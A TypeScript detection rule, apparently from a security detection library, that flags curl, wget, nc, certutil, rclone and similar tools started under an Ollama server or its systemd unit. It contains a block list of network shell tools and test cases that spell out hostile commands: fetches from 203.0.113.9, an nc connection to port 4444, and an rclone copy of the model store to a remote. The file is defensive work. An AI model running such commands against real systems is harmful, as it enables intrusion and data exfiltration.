import { all, any, contains, ends, is } from "../../model/condition.ts";
import type { Detection } from "../../model/detection.ts";
import { STARTED_BY_SERVER } from "./conditions.ts";
import { STABLE_1 } from "./lifecycle.ts";
import { LOOK_FOR_TRACES, REBUILD, ROTATE_SECRETS, STOP_SERVER, UPGRADE } from "./measures.ts";
import { child, otherParents, run, story } from "./story.ts";

const TOOLS = [
  "/curl",
  "/wget",
  "/nc",
  "/ncat",
  "/netcat",
  "/socat",
  "/scp",
  "/sftp",
  "/ftp",
  "/tftp",
  "/aria2c",
  "/rclone",
  "\\curl.exe",
  "\\certutil.exe",
  "\\bitsadmin.exe",
  "\\nc.exe",
  "\\rclone.exe",
] as const;

/** The second stage is fetched. */
export const DOWNLOAD_TOOL_CHILD: Detection = {
  id: "download-tool-child",
  uuid: "9cb90f5c-f648-47f9-83d7-c98c8c7403da",
  title: "A download tool ran inside of Ollama's service",
  hypothesis:
    "After the first command an intruder fetches tools or sends files out. The server downloads models itself, by its own code; curl, wget or nc below it or in its unit are somebody else's.",
  severity: "high",
  ...STABLE_1,
  selections: {
    tool: {
      class: "process",
      where: all(
        any(STARTED_BY_SERVER, is("user", "ollama"), contains("unit", "ollama.service")),
        ends("executable", ...TOOLS),
      ),
    },
  },
  correlation: { kind: "each", of: "tool", by: ["observer", "executable"], withinSeconds: 3_600 },
  falsePositives: ["A unit of one's own whose ExecStartPre or ExecStartPost asks with curl whether the server is up."],
  blindTo: [
    "Downloads by a shell's or an interpreter's own means: see `shell-child`.",
    "Tools under other names: see `service-runs-dropped-program`.",
  ],
  ids: { attack: ["T1105", "T1048"], attackBefore: [], atlas: ["AML.T0112"], owaspLlm: ["LLM05:2025"] },
  references: [],
  whatNow: {
    confirm: [
      "Show the unit's programs now: `systemctl status ollama`, and the record again: `sudo ausearch -ua ollama -i --start today`.",
      "Show who made the unit do it, if the unit does: `systemctl cat ollama | grep Exec`.",
    ],
    contain: [STOP_SERVER],
    recover: [LOOK_FOR_TRACES, ROTATE_SECRETS, REBUILD, UPGRADE],
  },
  fires: [
    story("below the server, which the row names without a path", () => [
      child(0, "/usr/bin/curl", "curl -s http://203.0.113.9/x", {
        parentExecutable: "ollama",
        parentCommandLine: "ollama serve",
        user: null,
        unit: null,
        product: "ollama",
      }),
    ]),
    story("curl below the server", () => [child(0, "/usr/bin/curl", "curl -s http://203.0.113.9/x")]),
    story("wget below a shell of the unit", () => [
      run(0, "/usr/bin/wget", "wget 203.0.113.9/x", {
        parentExecutable: "/bin/sh",
        parentCommandLine: "sh",
        user: "ollama",
        unit: "ollama.service",
      }),
    ]),
    story("nc, its cgroup named in full", () => [
      run(0, "/usr/bin/nc", "nc 203.0.113.9 4444", { unit: "/system.slice/ollama.service" }),
    ]),
    story("certutil", () => [
      child(0, String.raw`C:\Windows\System32\certutil.exe`, "certutil -urlcache", {
        parentExecutable: String.raw`C:\Ollama\ollama.exe`,
        parentCommandLine: "ollama.exe serve",
        user: "alice",
        product: "sysmon",
      }),
    ]),
    story("under the service's account, in a log that began after the server", () => [
      child(0, "/usr/bin/curl", "curl -s http://203.0.113.9/x", {
        parentExecutable: null,
        parentCommandLine: null,
        unit: null,
      }),
    ]),
    story("rclone takes the store away", () => [child(0, "/usr/bin/rclone", "rclone copy /usr/share/ollama remote:")]),
  ],
  silent: [
    ...otherParents("/usr/bin/curl", "curl http://127.0.0.1:11434/api/version"),
    story("curl in another unit", () => [
      run(0, "/usr/bin/curl", "curl http://127.0.0.1:11434", { unit: "backup.service" }),
    ]),
    story("a tool that downloads nothing", () => [child(0, "/usr/bin/id", "id")]),
    story("a program whose name ends alike", () => [child(0, "/opt/bin/mycurl", "mycurl")]),
    story("the runner", () => [child(0, "/usr/local/lib/ollama/llama-server", "llama-server --port 40111")]),
    story("a unit whose name begins alike", () => [
      run(0, "/usr/bin/curl", "curl http://127.0.0.1", { unit: "ollama-exporter.service" }),
    ]),
  ],
};
